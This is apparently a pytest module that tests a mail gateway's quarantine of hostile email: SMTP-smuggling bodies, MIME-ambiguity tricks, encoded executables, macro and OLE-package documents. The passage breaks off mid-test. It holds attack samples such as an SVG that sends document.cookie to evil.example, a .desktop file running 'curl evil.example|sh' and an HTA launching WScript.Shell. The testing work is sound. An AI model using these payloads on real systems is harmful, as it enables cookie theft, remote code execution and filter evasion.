"""Fail open on availability, closed on content (issue 14): hostile mail.

Each test sends one hostile message (and its neighbours: the shapes that
would slip past the check the first one needs) with smtplib or a raw socket
into a real gateway, which delivers to a raw SMTP sink that records the
bytes as they came over the wire (``hostile_messages.RawSink``).  What the
fixed gateway must do with a part it did not or could not examine (beyond a
limit, unparseable, ambiguous, inside something it cannot open): never
hand it to an agent as a file; put a notice naming the file and the reason
in its place; keep its bytes in quarantine; audit ``FileRefused``; send the
automatic reply; and still deliver the readable text.  Every byte it writes
is CRLF-only, without NUL.

``fail_closed`` checks all of that for one message and reports every
problem at once, so a failing test says everything that is wrong with it.
"""
from __future__ import annotations

import base64
import binascii
import contextlib
import email
import gzip
import io
import itertools
import re
import smtplib
import socket
import struct
import tarfile
import threading
import time
import urllib.parse
import urllib.request
import zipfile
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest

from policies import filetypes
from tests import active_documents
from tests.active_documents import ole10native, ole_file
from tests.harness import GatewayProcess, render_config, wait_until
from tests.messages import LINK, pdf_bytes
from tests.test_smuggling import Client as Raw
from tests.hostile_messages import (BIDI, CRLF, DOCM_TYPE, DOCX_TYPE, ONENOTE_MAGIC, OLE_MAGIC, TNEF_MAGIC,
                                    XLSM_TYPE, Case, RawSink, Transaction, b64, b64head, dangers, envelope_message,
                                    multipart, ooxml, part, pe, quarantined, readable_text, rfc2231, text,
                                    uuencode, zip_of)

# The fixed config's key, under a route's ``customer_id`` table, naming the
# networks whose customer-id header is believed (the lead may rename it).
TRUSTED_NETWORKS_KEY = "trusted_networks"
# Small bounds, so that a message beyond each is cheap to build.
LIMITS: dict[str, Any] = {"max_mime_depth": 6, "max_parts": 40, "max_header_line": 4096,
                          "max_header_fields": 60, "max_header_bytes": 32768}
THRESHOLD = 20_000  # offload_threshold: a 30 kB PDF is offloaded (a link appended)

_ids = itertools.count()


def autoreply(sink: RawSink) -> dict[str, Any]:
    return {"autoreply": {"from": "Support <support@contact.example>", "next_hop": f"smtp://127.0.0.1:{sink.port}",
                          "interval": "1h"}}


@pytest.fixture(scope="module")
def gw(tmp_path_factory: pytest.TempPathFactory, raw_sink: RawSink) -> Iterator[GatewayProcess]:
    """One gateway for the module: one process (so a blocked event loop
    would show), the small limits, an auto-reply, the raw sink as next hop."""
    with GatewayProcess(tmp_path_factory.mktemp("hostile"), next_hop=f"smtp://127.0.0.1:{raw_sink.port}",
                        threshold=THRESHOLD, route={"tls": "none", **autoreply(raw_sink)},
                        sections={"gateway": {"processes": 1}, "worker": LIMITS}) as g:
        yield g


class Mail:
    """Addresses and a subject unique to one message, so each test finds
    its own delivery, auto-reply and audit events on the shared gateway."""

    def __init__(self, tag: str) -> None:
        n = next(_ids)
        safe = re.sub(r"[^a-z0-9]+", "-", tag.lower()).strip("-")[:40]
        self.tag = f"{safe}-{n}"
        self.sender = f"c-{self.tag}@example.net"
        self.rcpt = f"h-{self.tag}@contact.example"
        self.readable = f"Readable text {self.tag}: please look at my claim."

    def body(self) -> bytes:
        return text(self.readable)

    def html(self) -> bytes:
        return text(f"<html><body><p>{self.readable}</p></body></html>", "text/html; charset=utf-8")

    def build(self, root: bytes, extra: list[str] = ()) -> bytes:
        return envelope_message(root, self.sender, self.rcpt, f"hostile {self.tag}", list(extra))

    def case(self, root: bytes, files: list[bytes] = (), markers: list[bytes] = (), name: str | None = None,
             extra: list[str] = ()) -> Case:
        return Case(self.build(root, extra), self.readable, list(files), list(markers), name)


def submit(port: int, sender: str, rcpt: str, data: bytes) -> str:
    """Send over SMTP; the queue id from the 250 reply."""
    with smtplib.SMTP("127.0.0.1", port, timeout=60) as s:
        s.ehlo()
        s.mail(sender)
        code, msg = s.rcpt(rcpt)
        assert code == 250, (code, msg)
        code, msg = s.data(data)
        if code != 250:
            raise smtplib.SMTPDataError(code, msg)
    m = re.search(rb"queued as (\w+)", msg)
    assert m, msg
    return m.group(1).decode()


def held(gw: GatewayProcess, qid: str) -> str | None:
    """Why the message is held, or None."""
    d = gw.spool / "hold" / qid
    if d.exists():
        state = d / "state.json"
        return f"held: {state.read_text() if state.exists() else '(no state)'}"
    return None


def wire_problems(tx: Transaction) -> list[str]:
    """What is wrong with the bytes on the wire."""
    out = []
    if b"\x00" in tx.wire:
        out.append("NUL on the wire")
    rest = tx.wire.replace(b"\r\n", b"")
    if b"\r" in rest:
        out.append("bare CR on the wire: %r" % _around(tx.wire, _bare(tx.wire, b"\r")))
    if b"\n" in rest:
        out.append("bare LF on the wire: %r" % _around(tx.wire, _bare(tx.wire, b"\n")))
    if b"." in tx.data.split(b"\r\n"):
        out.append("a line holding a single '.' in the delivered message")
    return out


def _bare(data: bytes, ch: bytes) -> int:
    for m in re.finditer(re.escape(ch), data):
        i = m.start()
        if ch == b"\r" and data[i + 1:i + 2] != b"\n":
            return i
        if ch == b"\n" and (i == 0 or data[i - 1:i] != b"\r"):
            return i
    return -1


def _around(data: bytes, i: int) -> bytes:
    return data[max(0, i - 40):i + 40]


def deliver(gw: GatewayProcess, sink: RawSink, mail: Mail, raw: bytes) -> tuple[str, Transaction]:
    qid = submit(gw.smtp_port, mail.sender, mail.rcpt, raw)
    [tx] = sink.wait_for(mail.rcpt, give_up=lambda: held(gw, qid))
    return qid, tx


def fail_closed(gw: GatewayProcess, sink: RawSink, mail: Mail, case: Case, refused: bool = True) -> str:
    """Send ``case``; assert every part of the rule on what arrived; the
    queue id."""
    qid, tx = deliver(gw, sink, mail, case.raw)
    problems = wire_problems(tx)
    if any(b"evil" in c.lower() for c in sink.commands):
        problems.append("a smuggled command reached the next hop")
    problems += dangers(tx.data, case.markers)
    for f in case.files:
        if b64head(f) in tx.wire or f[-40:] in tx.wire:
            problems.append(f"the hostile file ({len(f)} bytes, {f[:8]!r}...) is on the wire")
    shown = readable_text(tx.data)
    if case.readable and case.readable not in shown:
        problems.append("the readable text did not arrive")
    if case.name is not None and case.name not in shown:
        problems.append(f"no notice names {case.name!r}")
    if refused:
        for f in case.files:
            if not quarantined(gw.objects, f):
                problems.append(f"the hostile file ({len(f)} bytes, {f[:8]!r}...) is not in quarantine")
        events = _wait(lambda: [e for e in gw.audit() if e.get("EventType") == "FileRefused"
                                and e.get("QueueId") == qid], 1.0)
        if not events:
            problems.append("no FileRefused audit event")
        elif not _wait(lambda: [t for t in sink.for_rcpt(mail.sender) if t.mail_from == "<>"], 10.0):
            problems.append("no automatic reply to the sender")
    assert problems == [], f"{mail.tag} (queue id {qid}):\n  " + "\n  ".join(problems)
    return qid


def _wait(fn: Callable[[], list[Any]], timeout: float) -> list[Any]:
    deadline = time.monotonic() + timeout
    while True:
        got = fn()
        if got or time.monotonic() > deadline:
            return got
        time.sleep(0.05)


EXE_NAMES = [("invoice.exe", "application/octet-stream"), ("invoice.pdf", "application/pdf")]


# ------------------------------------------------------------ outbound smuggling


SMUGGLE_QP = b"hello=0D.=0D=0AMAIL FROM:<x@evil>=0D=0ARCPT TO:<victim@contact.example>=0D=0A"


@pytest.mark.parametrize("shape", ["html-qp", "plain-qp", "plain-qp-lf", "plain-b64", "html-qp-offloaded"])
def test_an_encoded_cr_dot_in_a_rewritten_body_stays_encoded(gw: GatewayProcess, raw_sink: RawSink,
                                                             shape: str) -> None:
    """The body is rewritten (a notice or link appended): what it decodes to
    must not reach the wire as a bare CR, a bare LF or a lone dot line."""
    mail = Mail(f"smuggle-{shape}")
    payload = {"html-qp": b"<p>" + SMUGGLE_QP + b"</p>", "plain-qp": SMUGGLE_QP,
               "plain-qp-lf": b"hello=0A.=0AMAIL FROM:<x@evil>=0A", "plain-b64": b"",
               "html-qp-offloaded": b"<p>" + SMUGGLE_QP + b"</p>"}[shape]
    ctype = "text/html; charset=utf-8" if shape.startswith("html") else "text/plain; charset=utf-8"
    if shape == "plain-b64":
        body = part(ctype, b"hello\r.\r\nMAIL FROM:<x@evil>\r\n.\r\n" + mail.readable.encode() + b"\n", "base64")
    else:
        body = (f"Content-Type: {ctype}\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n".encode()
                + mail.readable.encode() + b"=0D=0A" + payload + b"\r\n")
    exe = pe(mail.tag)
    if shape.endswith("offloaded"):
        att = part("application/pdf", b"%PDF-1.4\n" + exe[2:] * 15, name="big.pdf")
        fail_closed(gw, raw_sink, mail, mail.case(multipart([body, att])), refused=False)
    else:
        fail_closed(gw, raw_sink, mail, mail.case(multipart([body, part("application/octet-stream", exe,
                                                                        name="setup.exe")]),
                                                  files=[exe], name="setup.exe"))


CRAFTED_NAME = "a\r\n.\r\nMAIL FROM:<x@evil>\r\n\x00b.exe"


@pytest.mark.parametrize("charset,cte", [("utf-16", "8bit"), ("utf-16", "binary"), ("utf-16-le", "8bit"),
                                         ("utf-16-be", "binary"), ("cp500", "8bit"), ("cp1026", "8bit"),
                                         ("utf-32", "base64"), ("utf-7", "7bit")])
def test_a_refusal_notice_in_a_non_ascii_compatible_body_is_crlf_clean(gw: GatewayProcess, raw_sink: RawSink,
                                                                       charset: str, cte: str) -> None:
    """A notice appended to a UTF-16 or EBCDIC body, naming a file whose
    name holds CR, LF, NUL and an SMTP command: none of it raw on the wire."""
    mail = Mail(f"charset-{charset}-{cte}")
    if charset.startswith("utf-16"):
        # CJK code units have no 00, 0A or 0D byte: the 8bit body is one
        # line without NUL, as a client could send it.
        words = "\u4e2d\u6587\u5185\u5bb9\u6d4b\u8bd5" * 8
        enc = "utf-16-le" if charset == "utf-16" else charset
        encoded = (b"\xff\xfe" if charset == "utf-16" else b"") + words.encode(enc)
        assert not set(encoded) & {0, 10, 13}
        readable = words
    else:
        readable = mail.readable
        encoded = readable.encode(charset)
    body = part(f"text/plain; charset={charset}", encoded + (b"" if cte == "base64" else CRLF), cte=cte)
    exe = pe(mail.tag)
    case = mail.case(multipart([body, part("application/octet-stream", exe, raw_name=rfc2231(CRAFTED_NAME))]),
                     files=[exe])
    case.readable = readable
    fail_closed(gw, raw_sink, mail, case)


@pytest.mark.parametrize("where", ["header", "body", "end-of-line", "after-dot-line"])
def test_nul_in_data_is_refused_at_the_end_of_data(gw: GatewayProcess, raw_sink: RawSink, where: str) -> None:
    mail = Mail(f"nul-{where}")
    raw = mail.build(mail.body())
    raw = {"header": raw.replace(b"Subject: ", b"Subject: \x00", 1),
           "body": raw.replace(b"please", b"ple\x00ase"),
           "end-of-line": raw.replace(b"claim.\r\n", b"claim.\x00\r\n"),
           "after-dot-line": raw + b"..\x00\r\n"}[where]
    with pytest.raises(smtplib.SMTPDataError) as e:
        submit(gw.smtp_port, mail.sender, mail.rcpt, raw)
    assert 500 <= e.value.smtp_code < 600, e.value
    gw.wait_idle()
    assert raw_sink.for_rcpt(mail.rcpt) == []


# ------------------------------------------------------------ limits


def _nest(inner: list[bytes], depth: int) -> bytes:
    entity = multipart(inner, boundary=f"d{depth}")
    for d in range(depth - 1, 0, -1):
        entity = multipart([entity], boundary=f"d{d}")
    return entity


@pytest.mark.parametrize("name,ctype", EXE_NAMES, ids=["exe", "pdf"])
@pytest.mark.parametrize("bound", ["depth", "parts", "header-line", "header-line-before", "header-fields",
                                   "header-fields-before", "header-bytes"])
def test_an_executable_behind_a_limit_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, bound: str,
                                                       name: str, ctype: str) -> None:
    mail = Mail(f"limit-{bound}-{name}")
    exe = pe(mail.tag)
    pad = "X-Pad: " + "a" * (LIMITS["max_header_line"] + 100)
    fields = [f"X-Field-{i}: {i}" for i in range(LIMITS["max_header_fields"] + 5)]
    folded = ["X-Folded: start" + "".join(f"\r\n {'b' * 60}" for _ in range(LIMITS["max_header_bytes"] // 60 + 10))]
    exe_part = part(ctype, exe, name=name)
    filler = part("text/plain", b"filler\r\n", cte="7bit", name="notes.txt")
    if bound == "depth":
        root = multipart([mail.body(), _nest([exe_part], LIMITS["max_mime_depth"] + 2)], boundary="top")
    elif bound == "parts":
        root = multipart([mail.body()] + [filler] * (LIMITS["max_parts"] + 5) + [exe_part])
    elif bound == "header-line":
        root = multipart([mail.body(), part(ctype, exe, name=name, extra=[pad])])
    elif bound == "header-line-before":
        root = multipart([mail.body(), part("text/plain", b"x\r\n", cte="7bit", name="a.txt", extra=[pad]), exe_part])
    elif bound == "header-fields":
        root = multipart([mail.body(), part(ctype, exe, name=name, extra=fields)])
    elif bound == "header-fields-before":
        root = multipart([mail.body(), part("text/plain", b"x\r\n", cte="7bit", name="a.txt", extra=fields),
                          exe_part])
    else:
        root = multipart([mail.body(), part(ctype, exe, name=name, extra=folded)])
    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))


# ------------------------------------------------------------ parts never examined


def _inner_message(tag: str, exe: bytes, name: str = "payload.exe") -> bytes:
    return envelope_message(multipart([text(f"inner {tag}"), part("application/octet-stream", exe, name=name)],
                                      boundary="inner"), "someone@example.org", "customer@example.net", "fwd")


@pytest.mark.parametrize("shape", ["rfc822", "global", "rfc822-base64", "rfc822-nested", "rfc822-as-zip",
                                   "multipart-no-boundary-zip"])
def test_an_executable_inside_an_attached_message_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                                    shape: str) -> None:
    mail = Mail(f"inner-{shape}")
    exe = pe(mail.tag)
    inner = _inner_message(mail.tag, exe)
    files: list[bytes] = [exe]
    if shape == "rfc822":
        att = part("message/rfc822", inner, cte="7bit", name="fwd.eml")
    elif shape == "global":
        att = part("message/global", inner, cte="8bit", name="fwd.u8msg")
    elif shape == "rfc822-base64":
        att = part("message/rfc822", inner, cte="base64", name="fwd.eml")
    elif shape == "rfc822-nested":
        outer = envelope_message(multipart([text("outer"), part("message/rfc822", inner, cte="7bit")],
                                           boundary="outer"), "a@example.org", "b@example.org", "fwd fwd")
        att = part("message/rfc822", outer, cte="7bit", name="fwd.eml")
    elif shape == "rfc822-as-zip":
        z = zip_of([("readme.txt", b"hi"), ("setup.exe", exe)])
        att, files = part("message/rfc822", z, cte="base64", name="fwd.eml"), [z]
    else:
        z = zip_of([("readme.txt", b"hi"), ("setup.exe", exe)])
        att, files = part("multipart/mixed", z, cte="base64", name="docs.zip"), [z]
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=files))


@pytest.mark.parametrize("shape", ["zip-as-pkcs7", "ole-doc-as-pkcs7", "onenote-as-pkcs7", "zip-as-pgp",
                                   "exe-as-signature-in-signed"])
def test_a_file_declared_as_a_signature_is_examined(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
    mail = Mail(f"sig-{shape}")
    exe = pe(mail.tag)
    blob = {"zip-as-pkcs7": zip_of([("setup.exe", exe)]), "zip-as-pgp": zip_of([("setup.exe", exe)]),
            "ole-doc-as-pkcs7": OLE_MAGIC + bytes(504) + mail.tag.encode() * 40,
            "onenote-as-pkcs7": ONENOTE_MAGIC + bytes(100) + mail.tag.encode() * 40,
            "exe-as-signature-in-signed": exe}[shape]
    ctype = "application/pgp-signature" if shape == "zip-as-pgp" else "application/pkcs7-signature"
    sig = part(ctype, blob, name="smime.p7s" if "pgp" not in shape else "signature.asc")
    if shape == "exe-as-signature-in-signed":
        root = multipart([mail.body(), sig], subtype="signed", boundary="sig",
                         params='protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sig"')
    else:
        root = multipart([mail.body(), sig])
    fail_closed(gw, raw_sink, mail, mail.case(root, files=[blob]))


@pytest.mark.parametrize("shape", ["two-boundaries", "two-boundaries-reversed", "two-content-types",
                                   "two-transfer-encodings", "base64-multipart", "boundary-quoted-junk"])
def test_an_ambiguous_structure_hides_nothing(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
    """Where parsers may disagree (which boundary, which Content-Type, which
    encoding), the part one reading hides is not delivered to the other."""
    mail = Mail(f"ambiguous-{shape}")
    exe = pe(mail.tag)
    exe_part = part("application/octet-stream", exe, name="setup.exe")
    if shape == "two-boundaries":
        root = multipart([mail.body(), exe_part], params='boundary="AAA"; boundary="BBB"', separator="BBB")
    elif shape == "two-boundaries-reversed":
        root = multipart([mail.body(), exe_part], params='boundary="BBB"; boundary="AAA"', separator="BBB")
    elif shape == "two-content-types":
        root = b"Content-Type: text/plain; charset=utf-8\r\n" + multipart([mail.body(), exe_part])
    elif shape == "boundary-quoted-junk":
        # boundary="b1"X: b1X to a parser that keeps what follows the quote
        # (one text part), b1 to Python and Mozilla (the program is a part).
        root = (b'Content-Type: multipart/mixed; boundary="b1"X\r\n\r\n--b1X\r\n' + mail.body() + b"\r\n--b1\r\n"
                + exe_part + b"\r\n--b1--\r\n--b1X--\r\n")
    elif shape == "base64-multipart":
        # A multipart may not be encoded (RFC 2045 6.4); Python ignores the
        # encoding and finds no parts, a client that decodes first finds two.
        inner = multipart([mail.body(), exe_part], boundary="enc")
        head, _, body = inner.partition(b"\r\n\r\n")
        root = head + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(body)
        case = mail.case(root, files=[body])
        case.readable = ""
        fail_closed(gw, raw_sink, mail, case)
        return
    else:
        # The first Content-Transfer-Encoding says 7bit (the base64 text is
        # harmless), the second base64 (it is a program).
        att = (b'Content-Type: application/octet-stream; name="setup.exe"\r\n'
               b'Content-Disposition: attachment; filename="setup.exe"\r\n'
               b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(exe))
        root = multipart([mail.body(), att])
    case = mail.case(root, files=[exe])
    if shape != "two-transfer-encodings":
        # Which reading holds the text is the ambiguity itself: refusing the
        # whole entity, text and all, is failing closed too.
        case.readable = ""
    fail_closed(gw, raw_sink, mail, case)


@pytest.mark.parametrize("shape", ["form-feed", "vertical-tab", "same-boundary-child"])
def test_a_delimiter_only_some_readers_see_hides_nothing(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
    """Thunderbird strips every white-space character, form feed and
    vertical tab too, from a line before comparing it with the boundary
    (Python's parser: only blanks), and asks a nested multipart about a line
    before its parent, so with a child of the same boundary the close
    delimiter is the child's and what follows more parts (the epilogue to
    Python's parser).  A program behind either must not be forwarded."""
    mail = Mail(f"delimiter-{shape}")
    exe = pe(mail.tag)
    exe_part = part("application/octet-stream", exe, name="setup.exe")
    if shape == "same-boundary-child":
        inner = (b'Content-Type: multipart/mixed; boundary="X"\r\n\r\n--X\r\n' + text("notes") +
                 b'\r\n--X\r\nContent-Type: multipart/mixed; boundary="X"\r\n\r\n--X--\r\n--X\r\n' + exe_part +
                 b"\r\n--X--")
    else:
        ws = b"\x0c" if shape == "form-feed" else b"\x0b"
        # To Python, setup.exe is text of the notes: nameless inline text.
        inner = (b'Content-Type: multipart/mixed; boundary="X"\r\n\r\n--X\r\n' + text("notes") + b"\r\n--X" + ws +
                 b"\r\n" + exe_part + b"\r\n--X--")
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), inner], boundary="top"), files=[exe]))


@pytest.mark.parametrize("shape", ["in-text-body", "in-base64-text-body", "x-uuencode-part"])
def test_a_uuencoded_executable_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
    mail = Mail(f"uu-{shape}")
    exe = pe(mail.tag)
    uu = uuencode(exe, "setup.exe")
    first_line = uu.split(CRLF)[1]
    readable = (mail.readable + "\r\n\r\n").encode()
    if shape == "in-text-body":
        root = part("text/plain; charset=us-ascii", readable + uu, cte="7bit")
    elif shape == "in-base64-text-body":
        root = part("text/plain; charset=us-ascii", readable + uu, cte="base64")
    else:
        att = part("application/octet-stream", uu, cte="", name="setup.dat",
                   extra=["Content-Transfer-Encoding: x-uuencode"])
        root = multipart([mail.body(), att])
    case = mail.case(root, files=[exe], markers=[first_line])
    case.files = []  # the uuencoded text is not base64 on the wire: its first line is the marker
    fail_closed(gw, raw_sink, mail, case)
    assert quarantined(gw.objects, exe) or quarantined(gw.objects, uu), "the uuencoded file is not in quarantine"


def _yenc(data: bytes, name: str) -> bytes:
    """``data`` yEnc-encoded (=ybegin ... =yend), 128-byte lines."""
    out, line = bytearray(), bytearray()
    for b in data:
        c = (b + 42) % 256
        line += b"=" + bytes([(c + 64) % 256]) if c in (0, 10, 13, 61) else bytes([c])
        if len(line) >= 128:
            out += line + CRLF
            line = bytearray()
    out += line + CRLF if line else b""
    return (f"=ybegin line=128 size={len(data)} name={name}".encode() + CRLF + bytes(out)
            + f"=yend size={len(data)}".encode() + CRLF)


@pytest.mark.parametrize("shape", ["yenc-no-content-type", "yenc-content-type-text", "binhex-no-content-type"])
def test_a_yenc_or_binhex_file_in_an_untyped_text_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                                   shape: str) -> None:
    """Thunderbird shows a yEnc or BinHex block in a text without a type
    (no Content-Type, or 'Content-Type: text', text/plain to Python) as an
    attachment, named by its name= for yEnc."""
    mail = Mail(f"untyped-{shape}")
    exe = pe(mail.tag)
    if shape.startswith("binhex"):
        block = (b"(This file must be converted with BinHex 4.0)\r\n:" + mail.tag.encode() + b"$f*TEQKPH#jdCA0d,R0TG!"
                 + b"\r\n" + b"a" * 64 + b":\r\n")
    else:
        block = _yenc(exe, "setup.exe")
    readable = (mail.readable + "\r\n\r\n").encode()
    if shape == "yenc-content-type-text":
        raw = mail.build(multipart([part("text", readable + block, cte="8bit", disposition="inline")]))
    else:
        raw = mail.build(CRLF + readable + block)
    fail_closed(gw, raw_sink, mail, Case(raw, mail.readable, markers=[block.split(CRLF, 1)[0]]))
    kept = [p.read_bytes() for p in (gw.objects / "quarantine").rglob("*") if p.is_file()]
    assert any(block in k for k in kept), "the encoded file is not in quarantine"


@pytest.mark.parametrize("ctype,name", [("application/ms-tnef", "winmail.dat"),
                                        ("application/octet-stream", "winmail.dat"),
                                        ("application/vnd.ms-tnef", "message.dat")])
def test_a_tnef_that_does_not_unpack_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, ctype: str,
                                                      name: str) -> None:
    mail = Mail(f"tnef-{ctype}-{name}")
    exe = pe(mail.tag)
    blob = TNEF_MAGIC + b"\x01\x00\xff\xff garbage " + exe
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]), files=[blob]))


# ------------------------------------------------------------ office and text


@pytest.mark.parametrize("shape", ["docm", "docm-named-docx", "xlsm", "docx-with-exe-entry"])
def test_macro_documents_are_cleaned_and_polyglot_office_files_refused(gw: GatewayProcess, raw_sink: RawSink,
                                                                       shape: str) -> None:
    # A macro document reaches the agent without its macros (the disarm
    # step: the original in quarantine, never linked); an archive that only
    # looks like Office is refused.
    mail = Mail(f"office-{shape}")
    if shape == "docm":
        blob, ctype, name = ooxml("word", mail.tag, macros=True), DOCM_TYPE, "report.docm"
    elif shape == "docm-named-docx":
        blob, ctype, name = ooxml("word", mail.tag, macros=True), DOCX_TYPE, "report.docx"
    elif shape == "xlsm":
        blob, ctype, name = ooxml("xl", mail.tag, macros=True), XLSM_TYPE, "figures.xlsm"
    else:
        blob, ctype, name = ooxml("word", mail.tag, extra=[("word/media/setup.exe", pe(mail.tag))]), DOCX_TYPE, \
            "contract.docx"
    if shape == "docx-with-exe-entry":
        fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]),
                                                  files=[blob], name=name))
        return
    cleaned = name.rsplit(".", 1)[0] + (".xlsx" if shape == "xlsm" else ".docx")
    qid = fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]),
                                                    files=[blob], name=cleaned), refused=False)
    assert quarantined(gw.objects, blob), "the original is kept in quarantine"
    assert _wait(lambda: [e for e in gw.audit() if e.get("EventType") == "FileDisarmed"
                          and e.get("QueueId") == qid], 5.0), "no FileDisarmed audit event"


@pytest.mark.parametrize("shape", ["package-under-word-charts", "fields-in-docprops"])
def test_office_content_outside_its_usual_folder_is_disarmed(gw: GatewayProcess, raw_sink: RawSink,
                                                             shape: str) -> None:
    # Sixth attacker review: an OLE Package with a program in a document
    # under word/charts/ (taken for a chart's data) and a DDEAUTO field in a
    # main part under docProps/ (fields were looked for under word/ only)
    # reached the agent in a .docx Word opens.
    from tests import active_documents as docs
    mail = Mail(f"office-{shape}")
    if shape == "package-under-word-charts":
        blob, markers = docs.docx_package_in_charts_folder(), [docs.EXE[:64]]
    else:
        blob, markers = docs.docx_main_part_in("docProps"), [b"DDEAUTO", b"INCLUDEPICTURE"]
    qid = fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(DOCX_TYPE, blob, name="claim.docx")]),
                                                    files=[blob], markers=markers, name="claim.docx"), refused=False)
    assert quarantined(gw.objects, blob), "the original is kept in quarantine"
    assert _wait(lambda: [e for e in gw.audit() if e.get("EventType") == "FileDisarmed"
                          and e.get("QueueId") == qid], 5.0), "no FileDisarmed audit event"


def _rtf_with_package(exe: bytes) -> bytes:
    """An RTF that Word reads (its header only "{\\rt1", which libmagic does
    not call RTF) with an embedded OLE Package holding ``exe``."""
    from tests import active_documents as docs
    native = docs.ole10native("payload.exe", exe)[4:]
    ole1 = (struct.pack("<II", 0x501, 2) + struct.pack("<I", 8) + b"Package\x00" + struct.pack("<II", 0, 0)
            + struct.pack("<I", len(native)) + native)
    return (b"{\\rt1\\ansi Please see the claim.\\par {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
            + binascii.hexlify(ole1) + b"}}}")


@pytest.mark.parametrize("ctype,name", [("application/msword", None), ("text/rtf", None),
                                        ("application/rtf", "claim"), ("application/msword", "claim")])
def test_an_rtf_named_by_its_declared_type_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, ctype: str,
                                                            name: str | None) -> None:
    # Sixth attacker review: plain text to libmagic, without a name or an
    # extension it passed as plain text; Outlook names it by its declared
    # type (ATT00001.doc) and Word runs the package on a double click.
    mail = Mail(f"rtf-{ctype}-{name}")
    blob = _rtf_with_package(pe(mail.tag))
    att = part(ctype, blob, name=name, disposition="attachment" if name else "inline")
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[blob], markers=[b"objdata"]))


SVG_BODY = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//evil.example/\'+document.cookie)"><rect/></svg>'


@pytest.mark.parametrize("prefix", ['<?xml version="1.0" encoding="UTF-8"?>\n', "<!-- logo -->\n",
                                    "\n\n   \t", '<?xml version="1.0"?>\n<!DOCTYPE svg>\n'],
                         ids=["prolog", "comment", "whitespace", "doctype"])
@pytest.mark.parametrize("name,ctype", [("logo.svg", "image/svg+xml"), ("logo.txt", "text/plain")],
                         ids=["svg", "txt"])
def test_an_svg_with_script_is_refused_whatever_comes_first(gw: GatewayProcess, raw_sink: RawSink, prefix: str,
                                                            name: str, ctype: str) -> None:
    mail = Mail(f"svg-{name}-{len(prefix)}")
    blob = (prefix + SVG_BODY + f"<!-- {mail.tag} -->\n").encode()
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]),
                                              files=[blob], name=name))


ACTIVE_TEXT = {
    "query.iqy": b"WEB\r\n1\r\nhttp://evil.example/q?x=[\"x\"]\r\n",
    "portal.url": b"[InternetShortcut]\r\nURL=file://evil.example/share/setup.exe\r\n",
    "report.desktop": b"[Desktop Entry]\r\nType=Application\r\nName=Report\r\nExec=sh -c 'curl evil.example|sh'\r\n",
    "update.hta": b"<html><head><HTA:APPLICATION ID=\"u\"></head><script>new ActiveXObject('WScript.Shell')"
                  b".Run('calc')</script></html>\r\n",
}


@pytest.mark.parametrize("name", list(ACTIVE_TEXT))
def test_active_text_files_are_refused(gw: GatewayProcess, raw_sink: RawSink, name: str) -> None:
    mail = Mail(f"active-{name}")
    blob = ACTIVE_TEXT[name] + f"; {mail.tag}\r\n".encode()
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part("text/plain", blob, name=name)]),
                                              files=[blob], name=name))


# ------------------------------------------------------------ one email stops the gateway


def _ehlo_time(port: int, timeout: float = 2.0) -> float:
    """Seconds from connect to the end of the EHLO reply; ``timeout`` (or
    more) when the gateway did not answer in time."""
    t0 = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
            f = s.makefile("rb")
            if not f.readline().startswith(b"220"):
                return float("inf")
            s.sendall(b"EHLO probe.example\r\n")
            while True:
                line = f.readline()
                if not line or line[3:4] == b" ":
                    break
            elapsed = time.monotonic() - t0
            s.sendall(b"QUIT\r\n")
            return elapsed
    except OSError:  # timed out (socket.timeout is an OSError), refused
        return max(timeout, time.monotonic() - t0)


@contextlib.contextmanager
def _greetings(port: int) -> Iterator[list[float]]:
    """EHLO timed again and again on other connections while the block runs:
    the times, filled in as they come (one process, so a blocked event loop
    shows as a slow greeting)."""
    times: list[float] = []
    done = threading.Event()

    def probe() -> None:
        while not done.is_set():
            times.append(_ehlo_time(port))

    th = threading.Thread(target=probe, daemon=True)
    th.start()
    try:
        yield times
    finally:
        done.set()
        th.join(15)


@pytest.mark.parametrize("shape", ["one-line", "folded"])
def test_a_million_parameters_neither_stall_the_gateway_nor_take_long(tmp_path: Path, raw_sink: RawSink,
                                                                      shape: str) -> None:
    """1 MiB of ';' in a Content-Disposition (on one line, beyond the header
    line limit; or folded into lines of 1000, within every default limit):
    processed within seconds, and greetings on another connection stay fast
    while it is (one process, so a blocked event loop would show)."""
    g = GatewayProcess(tmp_path, next_hop=f"smtp://127.0.0.1:{raw_sink.port}", threshold=THRESHOLD,
                       route={"tls": "none", **autoreply(raw_sink)}, sections={"gateway": {"processes": 1}})
    try:
        g.start()
        mail = Mail(f"semicolons-{shape}")
        exe = pe(mail.tag)
        params = ";" * (1 << 20) if shape == "one-line" else "\r\n ".join([";" * 1000] * 1000)
        att = part("application/octet-stream", exe, raw_name='filename="setup.exe"' + params)
        raw = mail.build(multipart([mail.body(), att]))
        assert _ehlo_time(g.smtp_port) < 1.0  # warm
